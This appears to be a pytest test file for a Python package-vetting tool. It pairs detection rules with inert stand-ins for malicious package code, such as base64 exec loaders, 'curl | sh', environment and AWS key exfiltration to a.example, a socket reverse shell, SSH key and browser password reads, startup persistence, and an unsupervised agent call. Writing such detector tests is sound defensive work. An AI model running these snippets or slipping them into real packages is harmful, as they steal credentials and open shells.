"""The rules about code that imports reach, on stand-ins for the public shapes of malicious packages. Nothing here is run."""

import base64
import zlib
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.support.wheels import build_sdist, build_wheel
from tests.vet.test_rules import LICENCE, NOW, facts_of, rules_of
from wheelhouse.findings import FactValue, Policy, Severity
from wheelhouse.vet.facts import Facts
from wheelhouse.vet.rules import Review, review_findings
from wheelhouse.vet.vet import RULES

INIT = "odd/__init__.py"
PAYLOAD = base64.b64encode(b"print('a stand-in')").decode()
REVERSED = base64.b64encode(zlib.compress(b"print('a stand-in')"))[::-1].decode()
SHAPES: dict[str, tuple[str, str, Mapping[str, str]]] = {
    "base64 in exec": (
        "import-runs-decoded",
        "base64.b64decode",
        {INIT: f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
    ),
    "a lambda that reverses, decodes and unpacks": (
        *("import-runs-decoded", "base64.b64decode"),
        {
            INIT: f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{REVERSED}'))\n"
        },
    ),
    "marshal": ("import-runs-decoded", "marshal.loads", {INIT: "from marshal import loads as l\nexec(l(b'c'))\n"}),
    "numbers and xor": (
        *("import-runs-decoded", "bytes of numbers"),
        {INIT: "key = 7\nexec(bytes([b ^ key for b in [119, 117, 110, 105, 115, 47, 54, 46]]))\n"},
    ),
    "a function that decodes, in another module": (
        *("import-runs-decoded", "codecs.decode"),
        {
            INIT: "from .text import plain\nexec(plain('cevag(1)'))\n",
            "odd/text.py": "import codecs\ndef plain(x):\n    return codecs.decode(x, 'rot13')\n",
        },
    ),
    "a function that runs, in another module": (
        *("import-runs-decoded", "base64.b64decode"),
        {
            INIT: "from odd._boot import start\nstart()\n",
            "odd/_boot.py": f"import base64\ndef start():\n    exec(base64.b64decode('{PAYLOAD}'))\n",
        },
    ),
    "code in an image": (
        "import-runs-decoded",
        "lsb.reveal",
        {INIT: "from stegano import lsb\nexec(lsb.reveal('logo.png'))\n"},
    ),
    "encrypted code": (
        *("import-runs-decoded", "Fernet().decrypt"),
        {INIT: "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n"},
    ),
    "code from a server": (
        *("import-runs-fetched", "urllib.request.urlopen"),
        {INIT: "from urllib.request import urlopen\nexec(urlopen('https://a.example/x').read())\n"},
    ),
    "code from a blockchain": (
        *("import-runs-fetched", "requests.post"),
        {
            INIT: "import requests as r\ndata = r.post('https://rpc.example', json={'id': 1}).json()['result']\n"
            "exec(bytes.fromhex(data[2:]))\n"
        },
    ),
    "code from a server, started in a thread": (
        *("import-runs-fetched", "requests.get"),
        {
            INIT: "import threading, requests\ndef go():\n    eval(requests.get('https://a.example').text)\n"
            "threading.Thread(target=go).start()\n"
        },
    ),
    "a miner that is downloaded": (
        *("import-drops-program", "chmod"),
        {
            INIT: "import os, subprocess, requests\ndef fetch(url, path):\n    with open(path, 'wb') as f:\n"
            "        f.write(requests.get(url).content)\n"
            "fetch('https://a.example/m', '/tmp/ultralytics_runner')\nos.chmod('/tmp/ultralytics_runner', 0o777)\n"
        },
    ),
    "the environment, sent": (
        *("import-sends-data", "the environment"),
        {
            INIT: "import os, json, urllib.request as u\n"
            "u.urlopen('https://a.example', data=json.dumps(dict(os.environ)).encode())\n"
        },
    ),
    "names of the machine, sent by DNS": (
        *("import-sends-data", "names of this machine"),
        {INIT: "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example')\n"},
    ),
    "a key, sent by a class": (
        *("import-sends-data", "secrets"),
        {
            INIT: "import os, requests\nclass C:\n    def __init__(self):\n"
            "        self.key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n        self.send()\n"
            "    def send(self):\n        requests.get('https://a.example/' + self.key)\nC()\n"
        },
    ),
    "keys of ssh": (
        "import-reads-secrets",
        ".ssh",
        {INIT: "import pathlib\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"},
    ),
    "passwords of a browser": (
        *("import-reads-secrets", "Login Data"),
        {
            INIT: "import os, sqlite3\n"
            "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nsqlite3.connect(p)\n"
        },
    ),
    "a shell's start-up file": (
        *("import-writes-startup", ".bashrc"),
        {INIT: "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n"},
    ),
    "a service of the user": (
        *("import-writes-startup", "systemd/user"),
        {
            INIT: "from pathlib import Path\n(Path.home() / '.config/systemd/user/sysmon.service').write_text('[Unit]')\n"
        },
    ),
    "a .pth file that is written": (
        *("import-writes-startup", ".pth"),
        {INIT: "import site\nopen(site.getsitepackages()[0] + '/init.pth', 'w').write('import x')\n"},
    ),
    "the clipboard": (
        "import-watches-user",
        "pyperclip.paste",
        {INIT: "import pyperclip\naddress = pyperclip.paste()\n"},
    ),
    "keys that are typed": (
        *("import-watches-user", "Listener"),
        {INIT: "from pynput.keyboard import Listener\nListener(on_press=print).start()\n"},
    ),
    "a library under another name": (
        *("import-injects-code", "native code"),
        {INIT: "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'terminate.dat'))\n"},
    ),
    "memory of a process": (
        *("import-injects-code", "CreateRemoteThread"),
        {INIT: "import ctypes\nk = ctypes.windll.kernel32\nk.CreateRemoteThread(0, 0, 0, 0, 0, 0, 0)\n"},
    ),
    "PowerShell": (
        "import-runs-command",
        "shell of Windows",
        {INIT: "import subprocess\nsubprocess.Popen('powershell -w hidden -c x', shell=True)\n"},
    ),
    "curl into a shell": (
        "import-runs-command",
        "downloads",
        {INIT: "from os import system as s\ns('curl https://a.example | sh')\n"},
    ),
    "a program of its own, in silence": (
        *("import-runs-command", "no output"),
        {
            INIT: "import os, subprocess as sp\n"
            "sp.Popen(os.path.join(os.path.dirname(__file__), 'helper'), stdout=sp.DEVNULL, stderr=sp.DEVNULL)\n"
        },
    ),
    "a list of the process, joined": (
        *("import-runs-command", "schedule"),
        {INIT: "import subprocess\nsubprocess.run(['crontab', '-'], input='x')\n"},
    ),
    "an unknown program": (
        "import-starts-program",
        "oddtool",
        {INIT: "import subprocess\nsubprocess.run(['oddtool', '--now'])\n"},
    ),
    "a beacon": (
        "import-uses-network",
        "socket",
        {INIT: "import socket\ns = socket.socket()\ns.connect(('a.example', 443))\n"},
    ),
    "a function that runs what it fetches": (
        *("code-runs-hidden", "requests.get"),
        {INIT: "import requests\ndef update():\n    exec(requests.get('https://a.example').text)\n"},
    ),
    "a name in pieces": (
        "code-hides-names",
        "os.system",
        {INIT: "import os\ndef f(x):\n    getattr(os, 'sys' + 'tem')(x)\n"},
    ),
    "a name from a dict": (
        "code-hides-names",
        "builtins.exec",
        {INIT: "def f(x):\n    vars(__builtins__)['ex' + 'ec'](x)\n"},
    ),
    "a name in escapes": (
        "code-hides-names",
        "subprocess",
        {INIT: "m = __import__('\\x73\\x75\\x62\\x70\\x72\\x6f\\x63\\x65\\x73\\x73')\n"},
    ),
    "code that is written into a file": (
        *("code-hides-names", "writes code"),
        {INIT: "import tempfile\nf = tempfile.NamedTemporaryFile()\nf.write(b'import os;os.system(1)')\n"},
    ),
    "PyArmor": ("code-protected", "pyarmor", {INIT: "from pyarmor_runtime_000000 import __pyarmor__\n"}),
    "a webhook": (
        *("code-shady-address", "webhooks"),
        {INIT: "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdef'\n"},
    ),
    "an address without a name": (
        *("code-shady-address", "203.0.113.42"),
        {INIT: "import requests\ndef beacon(data):\n    requests.post('http://203.0.113.42/collect', json=data)\n"},
    ),
    "a function that reads keys": (
        "code-touches-secrets",
        ".aws",
        {INIT: "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"},
    ),
    "a function that takes the clipboard": (
        *("code-can-act", "pyperclip"),
        {INIT: "import pyperclip\ndef f():\n    return pyperclip.paste()\n"},
    ),
    "a test that reads keys": (
        *("tests-can-act", ".netrc"),
        {INIT: "", "odd/tests/test_x.py": "import os\nopen(os.path.expanduser('~/.netrc'))\n"},
    ),
    "tests that the package imports": (
        *("import-runs-command", "curl"),
        {
            INIT: "from .tests import go\n",
            "odd/tests/__init__.py": "import os\nos.system('curl https://a.example')\ngo = 1\n",
        },
    ),
    "a syntax of tomorrow beside it": (
        *("import-runs-decoded", "base64.b64decode"),
        {INIT: f"import base64\n\n@f\ndef odd[:T](x): ...\n\nexec(base64.b64decode('{PAYLOAD}'))\n"},
    ),
    "behind 150 blanks": ("source-hides-code", "import os", {INIT: "x = 1" + " " * 200 + ";import os; os.getcwd()\n"}),
    "letters that look plain": ("source-hides-code", "exec", {INIT: "\U0001d68e\U0001d6a1\U0001d68e\U0001d68c('1')\n"}),
    "direction of the text": (
        "source-hides-code",
        "U+202E",
        {INIT: "access = 'user\u202e \u2066# admin\u2069 \u2066'\n"},
    ),
    "an encoding nobody reads": ("source-hides-code", "utf-7", {INIT: "# coding: utf-7\nx = 1\n"}),
    "invisible data": ("source-invisible", "invisible", {INIT: "x = '" + "\U000e0100" * 40 + "'\n"}),
    "a remote shell": (
        *("import-runs-command", "remote shell"),
        {
            INIT: "import socket, os, pty\ns = socket.socket()\ns.connect(('a.example', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"
        },
    ),
    "a remote shell in a function": (
        *("code-is-hostile", "remote shell"),
        {
            INIT: "import socket, os\ndef f():\n    s = socket.socket()\n    for n in (0, 1, 2): os.dup2(s.fileno(), n)\n"
        },
    ),
    "commands from a connection": (
        *("import-runs-fetched", "check_output"),
        {
            INIT: "import socket, subprocess\ns = socket.socket()\nsubprocess.check_output(s.recv(99).decode(), shell=True)\n"
        },
    ),
    "an encoded command of PowerShell": (
        *("code-is-hostile", "encoded command"),
        {INIT: "import os\ndef f():\n    os.system('powershell -nop -w hidden -enc SQBFAFgA')\n"},
    ),
    "a miner": (
        *("code-is-hostile", "mines coins"),
        {INIT: "import subprocess\ndef f():\n    subprocess.Popen(['./m', '-o', 'stratum+tcp://pool.example:1'])\n"},
    ),
    "a home folder that is removed": (
        *("import-runs-command", "removes `~"),
        {INIT: "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"},
    ),
    "an agent that asks nobody": (
        *("import-runs-command", "asks nobody"),
        {
            INIT: "import subprocess\nsubprocess.run(['claude', '--dangerously-skip-permissions', '-p', 'find wallets'])\n"
        },
    ),
    "addresses of wallets in the clipboard": (
        *("code-is-hostile", "wallets"),
        {
            INIT: "import pyperclip, re\ndef f():\n    if re.match('^(bc1|[13])[a-z]', pyperclip.paste()): pyperclip.copy('x')\n"
        },
    ),
    "a clipboard of Tk": (
        *("import-watches-user", "clipboard_get"),
        {INIT: "import tkinter\ntkinter.Tk().clipboard_get()\n"},
    ),
    "who uses the machine": (
        *("code-profiles-machine", "whoami"),
        {INIT: "import os, subprocess\ndef f():\n    return os.popen('hostname').read(), subprocess.run(['whoami'])\n"},
    ),
    "an install at import": (
        *("import-starts-program", "pip install"),
        {INIT: "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'odd-two'])\n"},
    ),
    "an install by pip's own function": (
        *("import-starts-program", "install odd-two"),
        {INIT: "from pip._internal import main\nmain(['install', 'odd-two'])\n"},
    ),
    "a process that nobody sees": (
        *("import-starts-program", "node index.js"),
        {INIT: "import subprocess as s\nd = s.DEVNULL\ns.Popen(['node', 'index.js'], stdin=d, stdout=d, stderr=d)\n"},
    ),
    "a key and xor": (
        *("import-runs-decoded", "xor"),
        {INIT: "k = b'secret'\nexec(bytes(b ^ k[i % len(k)] for i, b in enumerate(b'\\x01')).decode())\n"},
    ),
    "a text from behind": ("import-runs-decoded", "text[::-1]", {INIT: "exec('ssap'[::-1])\n"}),
    "a number as bytes": ("import-runs-decoded", "to_bytes", {INIT: "exec((0x70617373).to_bytes(4, 'big'))\n"}),
    "a variable of the environment": (
        *("import-runs-decoded", "os.environ['ODD']"),
        {INIT: "import os\nexec(os.environ.get('ODD', ''))\n"},
    ),
    "the pixels of an image": (
        *("import-runs-decoded", "getdata"),
        {INIT: "from PIL import Image\nexec(bytes(p & 1 for p in Image.open('a.png').getdata()))\n"},
    ),
    "the image beside it": (
        *("import-runs-decoded", "a.png"),
        {INIT: "data = open(__file__.replace('__init__.py', 'a.png'), 'rb').read()\nexec(data[99:])\n"},
    ),
    "memory that runs": (
        *("import-injects-code", "memory"),
        {INIT: "import ctypes, mmap\nm = mmap.mmap(-1, 99, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)\n"},
    ),
    "the name of the machine in a look-up": (
        *("import-sends-data", "nslookup"),
        {INIT: "import os, platform\nos.system('nslookup ' + platform.node() + '.a.example')\n"},
    ),
    "a token in a command": (
        *("import-sends-data", "secrets"),
        {
            INIT: "import os, subprocess\nt = os.environ['GITHUB_TOKEN']\nsubprocess.run(['git', 'push', 'https://' + t + '@a.example'])\n"
        },
    ),
    "keys that are read as settings": (
        *("import-reads-secrets", ".aws"),
        {INIT: "import configparser, os\nconfigparser.ConfigParser().read(os.path.expanduser('~/.aws/credentials'))\n"},
    ),
    "the cookies of a browser": (
        *("code-touches-secrets", "cookies.sqlite"),
        {INIT: "import os, sqlite3\ndef f(p):\n    sqlite3.connect(os.path.join(p, 'cookies.sqlite'))\n"},
    ),
    "a workflow": (
        *("code-touches-secrets", "workflows"),
        {INIT: "def f():\n    open('.github/workflows/a.yml', 'w').write('on: push')\n"},
    ),
    "names of a module that somebody asks for": (
        *("import-runs-command", "curl"),
        {INIT: "def __getattr__(name):\n    import os\n    os.system('curl https://a.example | sh')\n"},
    ),
    "a library from a temporary folder": (
        *("import-injects-code", "%TEMP%/update.dll"),
        {INIT: "import ctypes, os\nctypes.WinDLL(os.path.join(os.environ['TEMP'], 'update.dll'))\n"},
    ),
    "a library from where everybody writes": (
        *("import-injects-code", "/tmp/.x.so"),
        {INIT: "import ctypes\nctypes.cdll.LoadLibrary('/tmp/.x.so')\n"},
    ),
    "a library from tempfile's folder": (
        *("import-injects-code", "no install writes"),
        {INIT: "import ctypes, os, tempfile as t\nctypes.CDLL(os.path.join(t.gettempdir(), 'x.so'))\n"},
    ),
    "a library for all programs": (
        *("import-injects-code", "LD_PRELOAD"),
        {INIT: "import os\nos.environ['LD_PRELOAD'] = '/opt/x.so'\n"},
    ),
    "bytes that are called": (
        *("import-injects-code", "calls bytes"),
        {
            INIT: "import ctypes as c\ncode = c.create_string_buffer(b'\\x90')\nc.CFUNCTYPE(c.c_int)(c.addressof(code))()\n"
        },
    ),
    "bytes that are cast": (
        *("import-injects-code", "calls bytes"),
        {INIT: "import ctypes as c\nc.cast(c.create_string_buffer(b'\\x90'), c.CFUNCTYPE(c.c_int))()\n"},
    ),
    "memory that becomes code": (
        *("import-injects-code", "VirtualProtect"),
        {INIT: "import ctypes\nctypes.windll.kernel32.VirtualProtect(0, 99, 0x40, 0)\n"},
    ),
    "an address in the browser": (
        *("import-starts-program", "opens `https://a.example`"),
        {INIT: "import webbrowser\nwebbrowser.open('https://a.example')\n"},
    ),
    "a tab of the browser": (
        *("import-starts-program", "in the browser"),
        {INIT: "from webbrowser import open_new_tab as show\nshow('https://a.example')\n"},
    ),
    "requests, patched": (
        *("import-patches", "requests.post"),
        {
            INIT: "import requests\nold = requests.post\ndef post(*a, **k):\n    return old(*a, **k)\nrequests.post = post\n"
        },
    ),
    "every session of requests, patched": (
        *("import-patches", "Session.send"),
        {INIT: "import requests.sessions as s\nsetattr(s.Session, 'send', lambda *a: None)\n"},
    ),
    "keys of wallets, patched": (
        *("import-patches", "Account.from_key"),
        {INIT: "from eth_account import Account\nold = Account.from_key\nAccount.from_key = lambda k: old(k)\n"},
    ),
    "passwords that are typed, patched": (
        *("import-patches", "getpass.getpass"),
        {INIT: "import getpass\ngetpass.getpass = lambda *a: ''\n"},
    ),
    "Python's own function, patched": (
        *("import-patches", "builtins.open"),
        {INIT: "import builtins\nbuiltins.open = lambda *a: None\n"},
    ),
    "a patch in a function": (
        *("code-can-act", "requests.get"),
        {INIT: "import requests\ndef f(g):\n    requests.get = g\n"},
    ),
    "a hook of git": (
        *("import-writes-startup", ".git/hooks"),
        {INIT: "with open('.git/hooks/pre-commit', 'w') as f:\n    f.write('x')\n"},
    ),
    "settings of an agent": (
        *("import-writes-startup", ".claude"),
        {INIT: "from pathlib import Path\n(Path.home() / '.claude/settings.json').write_text('{}')\n"},
    ),
    "settings of an editor in a function": (
        *("code-can-act", ".vscode/tasks.json"),
        {INIT: "def f():\n    open('.vscode/tasks.json', 'w').write('{}')\n"},
    ),
    "the right to be root": ("import-writes-startup", "sudoers", {INIT: "open('/etc/sudoers.d/x', 'w').write('x')\n"}),
    "a cron table": ("import-writes-startup", "cron", {INIT: "open('/var/spool/cron/root', 'a').write('x')\n"}),
    "a key of the registry": (
        *("import-writes-startup", "registry"),
        {
            INIT: "import winreg as w\nk = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
            "w.SetValueEx(k, 'x', 0, 1, 'x.exe')\n"
        },
    ),
    "a picture of the screen": (
        *("import-watches-user", "mss"),
        {INIT: "import mss\nwith mss.mss() as s:\n    s.shot(output='a.png')\n"},
    ),
    "a picture of the screen by a program": (
        *("import-runs-command", "picture of the screen"),
        {INIT: "import subprocess\nsubprocess.run(['screencapture', '-x', 'a.png'])\n"},
    ),
    "a camera": ("import-watches-user", "VideoCapture", {INIT: "import cv2\ncv2.VideoCapture(0).read()\n"}),
    "a microphone": ("import-watches-user", "rec", {INIT: "import sounddevice as sd\nsd.rec(44100)\n"}),
    "the clipboard by a program": (
        *("import-runs-command", "clipboard"),
        {INIT: "import os\nx = os.popen('xclip -o -selection clipboard').read()\n"},
    ),
    "a token that a tool of the cloud gives": (
        *("import-runs-command", "reads secrets"),
        {INIT: "import subprocess\nsubprocess.check_output(['gcloud', 'auth', 'print-access-token'])\n"},
    ),
    "a key store": ("import-reads-secrets", "keyring", {INIT: "import keyring\nkeyring.get_password('x', 'y')\n"}),
    "a wallet": (
        *("import-reads-secrets", "Exodus"),
        {
            INIT: "import os, shutil\n"
            "shutil.copytree(os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet'), 'x')\n"
        },
    ),
    "keys of the cloud": (
        *("import-reads-secrets", "gcloud"),
        {INIT: "import os\nopen(os.path.expanduser('~/.config/gcloud/application_default_credentials.json')).read()\n"},
    ),
    "the cloud's metadata": (
        *("import-reads-secrets", "metadata service"),
        {INIT: "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')\n"},
    ),
    "data of the package that run": (
        *("import-runs-decoded", "data.bin"),
        {INIT: "import pkgutil\nexec(pkgutil.get_data('odd', 'data.bin'))\n"},
    ),
    "a pickle in a text": (
        *("import-runs-decoded", "pickle.loads"),
        {INIT: "import pickle, base64\npickle.loads(base64.b64decode('gAQu'))\n"},
    ),
    "long texts that nobody can read": (
        *("code-protected", "5 long encoded texts"),
        {INIT: "".join(f"A{n} = '{'QUJD' * 60}'\n" for n in range(5))},
    ),
    "a bomb of brackets": ("source-unfollowed", "nested too deeply", {INIT: "(" * 5000}),
    "a null byte": ("source-unfollowed", "null bytes", {INIT: "a\0b"}),
    "Python 2": ("source-unparsed", "line 1", {INIT: "exec 'x'\n"}),
}
"""By shape: the rule that finds it, a word of what the finding says, and the files of a wheel."""


def code_wheel(folder: Path, files: Mapping[str, str]) -> Facts:
    texts = {name: text.encode() for name, text in files.items()}
    return facts_of(
        build_wheel(folder, "odd", "1.0", files={LICENCE.format("odd"): b"Apache License Version 2.0", **texts})
    )


def says(found: Mapping[str, FactValue]) -> str:
    does = found["does"]
    assert isinstance(does, tuple)
    return " ".join(does)


@pytest.mark.parametrize("shape", SHAPES)
def test_a_public_shape_is_found_by_its_rule_and_says_where_to_look(tmp_path: Path, shape: str) -> None:
    rule, word, files = SHAPES[shape]
    found = rules_of(code_wheel(tmp_path, files))
    assert word in says(found[rule])
    assert found[rule]["path"] in files


INSTALLS = {
    "import-runs-decoded": f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{PAYLOAD}'))\nsetup()\n",
    "import-sends-data": (
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, requests\nclass I(install):\n"
        "    def run(self):\n        requests.post('https://a.example', json=dict(os.environ))\nsetup(cmdclass={'install': I})\n"
    ),
    "setup-replaces-install": "from setuptools import setup\nfrom own import I\nsetup(cmdclass={'install': I})\n",
}


@pytest.mark.parametrize("rule", INSTALLS)
def test_setup_py_is_followed_as_an_install_runs_it(tmp_path: Path, rule: str) -> None:
    assert rule in rules_of(facts_of(build_sdist(tmp_path, "odd", "1.0", setup_py=INSTALLS[rule])))


HARMLESS = {
    "a version file": "exec(open('version.py').read())\n",
    "usual tools": "import subprocess, sys\nsubprocess.check_output(['git', 'describe'])\n"
    "subprocess.run([sys.executable, '-m', 'pip', 'list'])\n",
    "a request if somebody calls it": "import requests\ndef get(url):\n    return requests.get(url, headers={'a': 'b'}).json()\n",
    "a command line": "import requests\nif __name__ == '__main__':\n    print(requests.get('https://a.example').text)\n",
    "types": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import requests\n    exec(requests.get('x').text)\n",
    "types, without typing": "TYPE_CHECKING = False\nif TYPE_CHECKING:\n    import requests\n    requests.get('x')\n",
    "the main module of several processes": "import requests\nif __name__ in {'__main__', '__mp_main__'}:\n"
    "    print(requests.get('https://a.example').text)\n",
    "settings": "import os\nhome = os.environ.get('HOME')\ntoken = os.environ.get('API_TOKEN')\nenv = dict(os.environ)\n",
    "re.compile": "import re, base64\nP = re.compile(base64.b64decode('eA==').decode())\n",
    "descriptors of files": "import os\ndef f(log):\n    os.dup2(log.fileno(), 1)\n",
    "a folder that is removed": "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.cache/odd'), ignore_errors=True)\n",
    "plain memory": "import mmap\nmmap.mmap(-1, 99, prot=mmap.PROT_READ)\n",
    "what a connection says": "import socket\ndef f():\n    return socket.socket().recv(99).decode()\n",
    "a switch of the environment": "import os\ndebug = eval(os.environ.get('DEBUG', 'False'))\n",
    "addresses of wallets": "import re\nBITCOIN = re.compile('[13][a-km-zA-HJ-NP-Z1-9]{25,34}')\n",
    "a quiet tool": "import subprocess as s\ns.call(['git', 'describe'], stdout=s.DEVNULL, stderr=s.DEVNULL)\n",
    "negative numbers": "x = 'text'[-3:]\ny = -1\n",
    "a method with that name": "import base64\nmodel.eval(base64.b64decode(x))\ncursor.exec(base64.b64decode(x))\n",
    "a private address": "import requests\ndef f():\n    requests.get('http://192.168.1.1/')\nHOSTS = ['http://127.0.0.1:8000']\n",
    "an invitation": "URL = 'https://discord.com/invite/pytest-dev'\n",
    "an address in a docstring": 'def f():\n    """Post.\n\n    >>> f(url=\'https://webhook.site/x\')\n    """\n',
    "a name of this machine that is looked up": "import socket\nsocket.gethostbyname(socket.gethostname() + '.local')\n",
    "settings of ssh": "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/config')).read()\n",
    "getattr": "import os\nsep = getattr(os, 'sep')\nname = 'x'\nvalue = getattr(os, name, None)\n",
    "code in a text": "exec('x = 1')\nns = {}\nexec(compile('y = 2', '<text>', 'exec'), ns)\n",
    "emoji": "FLAGS = '\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f'\n",
    "characters in a table": "TABLE = ('\u202e', '\u2066', 'x')\n",
    "its own class of that name": "class requests:\n    get = None\nrequests.get = print\n",
    "a setting of requests": "import requests\nrequests.adapters.DEFAULT_RETRIES = 3\n",
    "a library of its own": "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libodd.so'))\n"
    "ctypes.CDLL('libc.so.6')\n",
    "a type of functions": "import ctypes as c\n@c.CFUNCTYPE(None, c.c_int)\ndef f(x): pass\ng = c.cast(f, c.c_void_p)\n",
    "a browser if somebody asks": "import webbrowser\ndef f(url):\n    webbrowser.open(url)\n",
    "where a program is": "import subprocess\nsubprocess.call(['which', 'scrot'])\n",
    "imports that are watched": "import builtins\nbuiltins.__import__ = lambda *a: None\n",
    "another variable": "import os\nos.environ['OMP_NUM_THREADS'] = '1'\nos.environ.setdefault('A', 'b')\n",
    "data of the package": "import pkgutil, json\nTABLE = json.loads(pkgutil.get_data('odd', 'table.json'))\n",
    "long lines": "TABLE = [1," + " " * 300 + "2]\n",
}


@pytest.mark.parametrize("case", HARMLESS)
def test_what_honest_code_does_is_not_found(tmp_path: Path, case: str) -> None:
    assert rules_of(code_wheel(tmp_path, {INIT: HARMLESS[case]})) == {}


def test_the_tests_of_a_package_are_not_what_an_import_runs(tmp_path: Path) -> None:
    found = rules_of(
        code_wheel(
            tmp_path, {INIT: "", "odd/tests/test_net.py": "import socket\nsocket.create_connection(('a.example', 1))\n"}
        )
    )
    assert found == {}


BOT = "URL = 'https://api.telegram.org/bot'\n"
TOKEN = "TOKEN = '1234567890:" + "a" * 35 + "'\n"


@pytest.mark.parametrize(
    ("files", "severity"),
    [
        ({INIT: BOT}, Severity.NOTE),
        ({INIT: "def f():\n    return 'https://api.ipify.org'\n"}, Severity.NOTE),
        ({INIT: BOT + TOKEN}, Severity.WARNING),
        ({INIT: "import requests\nrequests.get('https://a.example')\n", "odd/bot.py": BOT}, Severity.WARNING),
        ({INIT: "URL = 'https://webhook.site/1'\n"}, Severity.WARNING),
    ],
)
def test_an_address_that_libraries_name_counts_by_what_reaches_it(
    tmp_path: Path, files: dict[str, str], severity: Severity
) -> None:
    found = review_findings(Review((code_wheel(tmp_path, files),), Policy(), NOW))
    assert [one.severity for one in found if one.rule == "code-shady-address"] == [severity]


def test_what_code_can_do_is_noted_for_a_comparison(tmp_path: Path) -> None:
    facts = code_wheel(
        tmp_path, {INIT: "import subprocess\ndef f():\n    subprocess.run(['git'])\n", "odd/c.py": "import ctypes\n"}
    )
    assert facts.inside.code_capabilities == {"process": (INIT,), "native": ("odd/c.py",)}


def test_every_rule_about_imports_is_tried() -> None:
    assert {name for name, rule in RULES.items() if rule.group == "importing"} == {
        *INSTALLS,
        *(rule for rule, _, _ in SHAPES.values()),
    }
